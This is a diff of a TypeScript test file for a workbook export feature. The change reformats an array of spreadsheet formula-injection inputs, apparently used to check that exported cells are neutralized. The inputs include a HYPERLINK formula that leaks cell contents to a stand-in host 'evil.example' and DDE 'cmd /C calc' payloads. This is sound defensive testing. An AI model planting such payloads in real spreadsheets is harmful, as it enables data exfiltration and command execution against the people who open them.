@@ -11,18 +11,17 @@ import { parseCsv, sampleSource } from './test-data';
 import { projectWorkbook } from './workbook-export';
 import { readGrid, unzipParts } from './xlsx-test-helpers';
 
-const HOSTILE = [
-  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
-  '+cmd|\' /C calc\'!A0',
-  '-2+3',
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
-  '\t=1+1',
-  '\r=1+1',
-];
+const HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+cmd|' /C calc'!A0", '-2+3', "@SUM(1+1)*cmd|' /C calc'!A0", '\t=1+1', '\r=1+1'];
 
 function hostileSource(): ExportSource {
   const base = sampleSource();
-  const answers = HOSTILE.map((text, i) => ({ id: answerId('q-rewards', 'baseline', `=R${i}`), questionId: 'q-rewards', waveId: 'baseline', respondentId: `=R${i}`, text }));
+  const answers = HOSTILE.map((text, i) => ({
+    id: answerId('q-rewards', 'baseline', `=R${i}`),
+    questionId: 'q-rewards',
+    waveId: 'baseline',
+    respondentId: `=R${i}`,
+    text,
+  }));
   return {
     ...base,
     project: { name: '=evil' },
